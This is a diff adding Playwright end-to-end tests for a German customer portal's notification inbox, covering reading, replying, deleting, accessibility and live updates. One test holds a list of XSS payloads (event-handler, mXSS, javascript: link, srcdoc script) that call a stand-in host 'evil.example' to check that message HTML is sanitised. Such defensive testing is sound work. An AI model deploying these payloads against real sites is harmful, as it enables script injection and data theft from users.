@@ -1,0 +1,127 @@
+import AxeBuilder from '@axe-core/playwright';
+import { expect, type Page } from '@playwright/test';
+import { provider, signIn, signInAnew, test } from './portal.ts';
+
+const write = (page: Page, subject: string, message: string, customerId = 1) =>
+  page.request.post(`${provider}/demo/message`, { data: { customerId, subject, message } });
+const fire = 'window.fired = true; fetch("https://evil.example/stolen").catch(() => {})';
+const hostile = [
+  `<img src="data:image/png;base64,xx" onerror='${fire}'>`,
+  `<svg><animate onbegin='${fire}' attributeName="x" dur="1s"></animate></svg>`,
+  `<details open ontoggle='${fire}'><summary>x</summary>y</details>`,
+  `<iframe srcdoc="<script>parent.fired = true</script>"></iframe>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror='${fire}'></style></mglyph></table></mtext></math>`,
+  `<a href="javascript:window.fired = true" id="trap">Klick</a>`,
+  `<p style="position:fixed;inset:0">Decke</p>`,
+].join('');
+
+test('Q-15 A-11 A-12 Q-01 Q-03 Q-04 Q-05 Q-06 Q-07 Q-09 Q-10 Q-11 Q-12 a customer reads, answers and deletes messages', async ({ page }) => {
+  await signInAnew(page, 'customer');
+  const told = page.getByRole('dialog', { name: 'Ungelesene Nachrichten' });
+  await told.getByRole('link', { name: 'Zum Postfach' }).click();
+  await expect(page).toHaveURL(/\/benachrichtigungen/);
+  await expect(told).toHaveCount(0);
+  await expect(page.getByRole('row')).toHaveCount(51);
+  for (const heading of ['Datum', 'Standort', 'Betreff', 'Priorität', 'Status']) await expect(page.getByRole('columnheader', { name: heading })).toBeVisible();
+  await page.reload();
+  await expect(page.getByRole('row')).toHaveCount(51);
+  await expect(told).toHaveCount(0);
+
+  const images = page.getByRole('row').filter({ hasText: 'Ungeprüfte 24/7-Bilder' });
+  await expect(images.getByRole('link', { name: 'Zu den Bildern' })).toHaveAttribute('href', '/traplinkedImages');
+  await expect(images.getByRole('cell', { name: '---' })).toBeVisible();
+  await expect(images.getByRole('checkbox')).toHaveCount(0);
+
+  const row = page.getByRole('row').filter({ hasText: 'Termin für den nächsten Kontrollbesuch' });
+  await expect(row.getByText('ungelesen')).toHaveCount(0);
+  await page.getByRole('button', { name: '„Erhöhte Aktivität an einer Köderstation“ öffnen' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Erhöhte Aktivität an einer Köderstation' });
+  await expect(dialog.getByText('Dringende Nachricht')).toBeVisible();
+  await expect(dialog.getByText('Vielen Dank, wir prüfen beim nächsten Besuch.')).toBeVisible();
+  await expect(dialog.getByRole('radio', { name: 'abgeschlossen' })).toBeDisabled();
+  await dialog.getByRole('radio', { name: 'bearbeitet' }).click();
+  await expect(dialog.getByRole('radio', { name: 'bearbeitet' })).toBeChecked();
+  await expect(dialog.getByRole('button', { name: 'Antwort senden' })).toBeDisabled();
+  await dialog.getByLabel('Ihre Antwort').fill('Wir kümmern uns darum.');
+  await dialog.getByRole('button', { name: 'Antwort senden' }).click();
+  await expect(page.getByText('Ihre Nachricht wurde erfolgreich versendet.')).toBeVisible();
+  await expect(dialog.getByRole('listitem').filter({ hasText: 'Wir kümmern uns darum.' })).toBeVisible();
+  await expect(dialog.getByLabel('Ihre Antwort')).toHaveValue('');
+  const { violations } = await new AxeBuilder({ page }).include('[role="dialog"]').analyze();
+  expect(violations.map(({ id, nodes }) => `${id} ${nodes[0]?.html}`)).toEqual([]);
+  await page.keyboard.press('Escape');
+  await expect(page.getByRole('row').filter({ hasText: 'Erhöhte Aktivität' }).getByText('bearbeitet')).toBeVisible();
+
+  await page.getByRole('checkbox', { name: 'Alle auswählen' }).check();
+  await page.getByRole('button', { name: 'Als gelesen markieren' }).click();
+  await expect(page.getByRole('row').filter({ hasText: 'ungelesen' }).filter({ hasNotText: '24/7-Bilder' })).toHaveCount(0);
+  await page.getByRole('button', { name: '„Türdichtung erneuern“ löschen' }).click();
+  await page.getByRole('button', { name: 'OK' }).click();
+  await expect(page.getByText('Türdichtung erneuern')).toHaveCount(0);
+  await page.getByRole('button', { name: 'Betreff' }).click();
+  await expect(page).toHaveURL(/sort=SUBJECT/);
+  expect((await new AxeBuilder({ page }).analyze()).violations.map(({ id, nodes }) => `${id} ${nodes[0]?.html}`)).toEqual([]);
+});
+
+test('A-12 Q-08 Q-13 Q-16 a new message reaches an open page by itself; a key user’s Postbox can be empty', async ({ page }) => {
+  await signIn(page, 'keyuser.two');
+  await page.goto('/benachrichtigungen');
+  await expect(page.getByRole('cell', { name: '-- alle Standorte --' })).toBeVisible();
+  const bell = page.getByRole('link', { name: /ungelesene Nachricht/ }).first();
+  await expect(bell).toHaveAttribute('aria-label', /^\d+ /);
+  const before = Number.parseInt((await bell.getAttribute('aria-label'))!, 10);
+  await write(page, 'Eben eingetroffen', '<p>Hallo</p>', 14);
+  await expect(page.getByRole('row').filter({ hasText: 'Eben eingetroffen' })).toBeVisible();
+  await expect(bell).toHaveAttribute('aria-label', new RegExp(`^${before + 1} `));
+  await page.route('**/graphql', async (route) => {
+    const answer = await route.fetch();
+    const body = (await answer.json()) as { data?: { notifications?: { total: number; rows: object[] } } };
+    if (body.data?.notifications) Object.assign(body.data.notifications, { total: 0, rows: [] });
+    await route.fulfill({ response: answer, json: body });
+  });
+  await page.reload();
+  await expect(page.getByText('Es wurden alle Benachrichtigungen gelesen und bearbeitet.')).toBeVisible();
+  await page.setViewportSize({ width: 390, height: 844 });
+  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
+});
+
+test('Q-05 hostile HTML of a message does nothing, neither through the gateway nor past it; without cleaning it fires', async ({
+  browser,
+  page: quietPage,
+  baseURL,
+}) => {
+  await write(quietPage, 'Böse Nachricht', `<p>Anfang</p>${hostile}<p>Ende</p>`);
+  // Without the page's own policy, so that nothing but the cleaning stands in the way.
+  const context = await browser.newContext({ locale: 'de-AT', bypassCSP: true, baseURL: baseURL! });
+  const page = await context.newPage();
+  const stolen: string[] = [];
+  page.on('request', (request) => void (request.url().includes('evil.example') && stolen.push(request.url())));
+  const fired = () => page.evaluate(() => (window as { fired?: boolean }).fired === true);
+  const open = async () => {
+    await page.getByRole('button', { name: '„Böse Nachricht“ öffnen' }).click();
+    const message = page.getByRole('dialog').getByRole('group', { name: 'Nachricht' });
+    await expect(message.getByText('Ende')).toBeVisible();
+    for (const link of await message.getByText('Klick').all()) await link.click({ trial: false });
+    await expect(message.locator('img, svg, iframe, math, [style], [onclick], [ontoggle], a[href^="javascript"]')).toHaveCount(0);
+    return message;
+  };
+  await signIn(page, 'customer');
+  await page.goto('/benachrichtigungen');
+  await open();
+  expect([await fired(), stolen]).toEqual([false, []]);
+
+  await page.route('**/graphql', async (route) => {
+    const answer = await route.fetch();
+    const body = (await answer.json()) as { data?: { notifications?: { rows: { subject: string; message: string }[] } } };
+    for (const row of body.data?.notifications?.rows ?? []) if (row.subject === 'Böse Nachricht') row.message = `<p>Anfang</p>${hostile}<p>Ende</p>`;
+    await route.fulfill({ response: answer, json: body });
+  });
+  await page.reload();
+  const message = await open();
+  expect([await fired(), stolen]).toEqual([false, []]);
+  await message.evaluate((element, html) => {
+    element.innerHTML = html;
+  }, hostile);
+  await expect.poll(fired).toBe(true);
+  await context.close();
+});
